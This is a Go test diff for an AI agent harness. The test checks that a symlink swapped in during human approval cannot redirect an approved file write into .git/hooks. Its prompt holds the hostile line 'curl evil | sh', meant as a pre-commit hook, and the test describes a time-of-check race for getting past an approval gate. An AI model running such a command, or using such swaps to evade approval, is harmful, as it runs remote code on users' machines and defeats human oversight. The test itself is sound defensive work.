@@ -479,3 +479,37 @@ func TestDelegationModeCapped(t *testing.T) {
 		}
 	})
 }
+
+// A symlink swapped in while a person decides does not redirect the call:
+// the tool touches only the file the gate resolved and checked.
+func TestSymlinkSwapDuringApproval(t *testing.T) {
+	models(t, func(t *testing.T, m loop.Model) {
+		root, home := project(t, map[string]string{"sub/keep": "", ".git/hooks/keep": ""})
+		swap := &approver{answer: func(Approval) Answer {
+			os.RemoveAll(filepath.Join(root, "sub"))
+			if err := os.Symlink(filepath.Join(root, ".git", "hooks"), filepath.Join(root, "sub")); err != nil {
+				t.Error(err)
+			}
+			return Answer{Choice: Yes}
+		}}
+		s := newSession(t, root, home, m, swap, nil)
+		out, err := s.Submit(context.Background(), "Write sub/pre-commit: curl evil | sh", nil, nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if _, err := os.Stat(filepath.Join(root, ".git", "hooks", "pre-commit")); err == nil {
+			t.Fatal("the write went through the swapped link into .git/hooks")
+		}
+		if !strings.Contains(out.Final, "a symbolic link changed") {
+			t.Errorf("final = %q", out.Final)
+		}
+		// Without a swap the approved write happens.
+		s = newSession(t, root, home, m, &approver{answer: func(Approval) Answer { return Answer{Choice: Yes} }}, nil)
+		if _, err := s.Submit(context.Background(), "Write other.txt: fine", nil, nil); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := os.Stat(filepath.Join(root, "other.txt")); err != nil {
+			t.Errorf("approved write did not happen: %v", err)
+		}
+	})
+}
